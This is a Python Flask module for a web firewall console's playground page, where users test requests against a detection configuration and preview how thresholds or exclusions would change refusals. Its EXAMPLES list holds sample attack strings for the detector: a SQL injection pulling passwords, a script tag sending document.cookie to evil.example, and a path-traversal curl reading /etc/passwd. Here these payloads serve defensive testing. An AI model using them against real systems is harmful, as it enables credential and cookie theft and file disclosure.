"""The playground: try a request against a configuration."""

from __future__ import annotations

from typing import Any

from attrs import asdict
from flask import Blueprint, Response, g, redirect, render_template, request, url_for
from flask.typing import ResponseReturnValue
from werkzeug.exceptions import NotFound

from guard_wsgi.agent.rules import DynamicRules
from guard_wsgi.cli.inspecting import PLACES
from guard_wsgi.config.security import SecurityConfig
from guard_wsgi.dynamic import apply_rules
from guard_wsgi.errors import ConfigError
from guard_wsgi_flask.console import exclusions, search
from guard_wsgi_flask.console import playground as trials
from guard_wsgi_flask.console.playground import CONFIGS, Answer, Trial, TrialRefused
from guard_wsgi_flask.console.records import event_of
from guard_wsgi_flask.console.services import services

playground = Blueprint("playground", __name__)

EXAMPLES = (
    ("an injection", Trial(text="1' UNION SELECT password FROM users--")),
    ("prose", Trial(text="select a union rep before June")),
    ("a script", Trial(text="<script>fetch('//evil.example?'+document.cookie)</script>")),
    (
        "a curl command",
        Trial(text="curl 'http://shop.example/files?name=../../etc/passwd'", kind="curl"),
    ),
)


@playground.get("/playground")
def page() -> ResponseReturnValue:
    event_id = request.args.get("event", "")
    trial = Trial()
    if event_id.isascii() and event_id.isdigit() and len(event_id) < 18:
        row = search.one(services().database, int(event_id))
        if row is None:
            raise NotFound("there is no such event, or it was deleted as too old")
        trial = trials.of_event(event_of(row))
        return _shown(trial, run=True)
    number = request.args.get("example", "")
    if number.isascii() and number.isdigit() and int(number[:3]) < len(EXAMPLES):
        return _shown(EXAMPLES[int(number[:3])][1], run=True)
    return _shown(trial, run=False)


@playground.post("/playground")
def try_out() -> ResponseReturnValue:
    trial = Trial.of(request.form)
    return _shown(trial, run=True, status_of_fault=422)


@playground.post("/playground/keep")
def keep() -> ResponseReturnValue:
    """Make a permalink for the form."""
    slug = trials.keep(services().database, Trial.of(request.form), g.person.name)
    target = url_for("playground.kept", slug=slug)
    if "HX-Request" in request.headers:
        return Response(status=204, headers={"HX-Redirect": target})
    return redirect(target, 303)


@playground.get("/playground/<slug>")
def kept(slug: str) -> ResponseReturnValue:
    trial = trials.kept(services().database, slug)
    if trial is None:
        raise NotFound("there is no such permalink")
    return _shown(trial, run=True)


def _shown(trial: Trial, *, run: bool, status_of_fault: int = 200) -> ResponseReturnValue:
    answer: Answer | None = None
    faults: tuple[str, ...] = ()
    if run and trial.text:
        try:
            answer = trials.run(trial, in_force())
        except TrialRefused as error:
            faults = error.faults
    part = "playground_answer.html" if "HX-Request" in request.headers else "playground.html"
    page = render_template(
        part,
        title="Playground",
        trial=trial,
        trial_fields=asdict(trial),
        answer=answer,
        faults=faults,
        places=PLACES,
        configs=CONFIGS,
        examples=EXAMPLES,
        in_force_of=_in_force_of(),
        day=_last_day(trial, answer) if answer is not None else None,
    )
    # htmx shows only answers with 200.
    is_part = part != "playground.html"
    return page, (status_of_fault if faults and not is_part else 200)


def _in_force_of() -> str:
    """Describe "the configuration in force" in words."""
    settings, apps = services().settings, services().keys.apps()
    base = settings.config.name if settings.config is not None else "the defaults"
    return f"{base} and the rules of {apps[0]}" if len(apps) == 1 else base


def in_force() -> SecurityConfig:
    """Return the configuration of the console, under the rules of its only app."""
    base = services().base
    apps = services().keys.apps()
    if len(apps) != 1:
        return base
    _, body = services().rules.current(apps[0])
    try:
        return apply_rules(trials.offline(base), DynamicRules.parse(body))
    except ConfigError:
        return base


def _last_day(trial: Trial, answer: Answer) -> dict[str, Any] | None:
    """Show how another threshold or other exclusions would have changed the last day's refusals."""
    if not trial.threshold.strip() and not trial.exclusions.strip():
        return None
    config = answer.config
    day = search.last_day(services().database)
    refused = [row for row in day if row["outcome"] != "told"]
    threshold = config.detection_threat_score_threshold
    passing = []
    for row in refused:
        event = event_of(row)
        by_score = isinstance(threshold, float) and trials.passes_by_score(event, threshold)
        if by_score or exclusions.covers(config.detection_exclusions, event):
            passing.append(row)
    return {
        "refused": len(refused),
        "passing": len(passing),
        "clients": len({row["client"] for row in passing}),
        "examples": passing[:10],
    }
